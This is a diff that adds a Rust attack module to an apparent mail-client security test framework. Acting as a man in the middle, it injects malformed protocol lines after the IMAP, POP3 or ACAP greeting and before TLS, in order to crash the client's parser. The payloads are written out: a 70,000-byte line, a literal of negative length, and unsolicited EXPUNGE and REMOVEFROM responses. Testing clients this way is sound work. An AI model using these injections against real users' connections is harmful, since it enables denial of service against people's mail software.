@@ -1,0 +1,60 @@
+//! Sends what a client's reader may break down on.
+
+use super::{Attack, Deciding, tamper};
+use crate::base::{Protocol, Switch, switch};
+use crate::harm::success;
+
+switch!(
+    Middle NONSENSE,
+    "nonsense",
+    Setting,
+    &["early-data", "negative-length", "long-line"],
+    &[],
+    "Nonsense",
+    "Data that belongs behind a login, a literal of negative length, or a line of 70,000 octets; in POP3 a line that is no answer."
+);
+
+static SWITCHES: &[&Switch] = &[&NONSENSE];
+
+static DECIDING: &[Deciding] = &[
+    Deciding {
+        protocols: &[Protocol::Imap, Protocol::Acap],
+        given: &[],
+        right: &[],
+        wrong: &["client.fragile=on"],
+    },
+    Deciding {
+        protocols: &[Protocol::Pop3],
+        given: &["middle.nonsense=long-line"],
+        right: &[],
+        wrong: &["client.fragile=on"],
+    },
+];
+
+/// The attack.
+pub static ATTACK: Attack = Attack {
+    id: "pre-tls-crash-loop",
+    title: "Crash the client",
+    about: "Sends a line behind the greeting that makes no sense there, to reach faults in the client's reader without TLS.",
+    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
+    switches: SWITCHES,
+    build: |switches, dialect| {
+        let long = switches.get(&NONSENSE) == "long-line";
+        let negative = switches.get(&NONSENSE) == "negative-length";
+        tamper(move |message, moves| {
+            moves.pass();
+            if !message.is_greeting() {
+                return;
+            }
+            moves.add(match dialect.protocol {
+                _ if long => [&b"* "[..], &[b'A'; 70_000], b"\r\n"].concat(),
+                Protocol::Pop3 => b"~ ~ ~\r\n".to_vec(),
+                _ if negative => b"* LIST () \"/\" {-1}\r\n".to_vec(),
+                Protocol::Imap => b"* 1 EXPUNGE\r\n".to_vec(),
+                Protocol::Acap => b"* REMOVEFROM \"ctx\" \"gone\" 1\r\n".to_vec(),
+            });
+        })
+    },
+    success: &success::BROKE_DOWN,
+    deciding: DECIDING,
+};
